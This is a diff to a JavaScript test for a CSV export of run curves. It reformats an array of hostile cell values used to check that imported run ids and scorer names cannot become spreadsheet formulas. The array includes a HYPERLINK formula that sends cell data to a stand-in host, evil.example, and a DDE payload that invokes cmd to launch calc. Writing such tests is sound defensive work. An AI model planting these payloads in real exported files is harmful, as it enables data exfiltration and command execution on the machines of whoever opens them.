@@ -57,7 +57,17 @@ describe('curves.csv', () => {
   });
 
   it('never lets an imported run id or scorer name reach a spreadsheet as a formula', () => {
-    const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+2', '-2+3', '\t=1', '\r=1', 'a,b', 'say "hi"', 'two\nlines'];
+    const hostile = [
+      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '+1+2',
+      '-2+3',
+      '\t=1',
+      '\r=1',
+      'a,b',
+      'say "hi"',
+      'two\nlines',
+    ];
     const rows = readCsv(curvesCsv(result(hostile.map((id) => run(id, id)))));
     expect(rows).toHaveLength(1 + 2 * hostile.length);
     for (const [i, id] of hostile.entries()) {
